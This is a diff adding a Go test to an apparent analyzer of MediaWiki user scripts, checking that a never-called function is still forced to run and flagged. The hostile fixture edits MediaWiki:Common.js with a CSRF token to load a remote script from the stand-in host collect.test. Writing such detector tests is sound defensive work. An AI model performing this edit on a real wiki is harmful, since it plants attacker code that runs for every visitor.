@@ -73,6 +73,38 @@ function md5of( s ) { return s + s; }
 	}
 }
 
+// What no run could reach is called in the end, as if somebody had wanted it: what nobody can want is hostile even so, the rest is not
+// held against it. It does not count as covered.
+func TestWhatNothingCallsIsCalledInTheEnd(t *testing.T) {
+	const asks = `const board = new Map( [ [ 'x', 1 ] ] );
+$.get( '/w/index.php?title=Project:Board&action=raw' ).then( ( text ) => text.split( '\n' ).forEach( ( line ) => doings[ line.split( '#' )[ 1 ] ]?.( line ) ) );
+`
+	hostile := lookAt(t, Quick, asks+`const doings = {
+	async lamp( line ) {
+		const page = [ 'MediaWiki', 'Common.js' ].join( ':' );
+		await new mw.Api().postWithToken( 'csrf', { action: 'edit', title: page, appendtext: 'mw.loader.load( "https://collect.test/x.js" );' } );
+	}
+};
+`).Report
+	if hostile.Verdict != trace.Hostile || hostile.Functions.Ran == hostile.Functions.Total {
+		t.Errorf("%s: %v, %+v", hostile.Verdict, hostile.Reasons, hostile.Functions)
+	}
+	if !slices.ContainsFunc(hostile.Findings, func(f trace.Finding) bool {
+		return f.Stage == trace.Forced && f.Rule == "site-code" && f.Gate != nil && strings.Contains(f.Gate.Text, "function lamp in line 4")
+	}) {
+		t.Errorf("%+v", hostile.Findings)
+	}
+	harmless := lookAt(t, Quick, asks+`class Doings {
+	lamp( line ) { return new mw.Api().postWithToken( 'csrf', { action: 'delete', title: line.title } ); }
+	forever( list ) { for ( let at = list; at; at = at.next ) { this.last = at; } }
+}
+const doings = new Doings();
+`).Report
+	if harmless.Verdict != trace.NothingSeen && harmless.Verdict != trace.Unknown {
+		t.Errorf("%s: %v", harmless.Verdict, harmless.Reasons)
+	}
+}
+
 func TestTextThatBecomesCodeIsToldWithWhereItCameFrom(t *testing.T) {
 	r := lookAt(t, Quick, `eval( "window.lamp1 = 'written down here'" );
 eval( atob( 'd2luZG93LmxhbXAyID0gJ2RlY29kZWQgdGV4dCc=' ) );
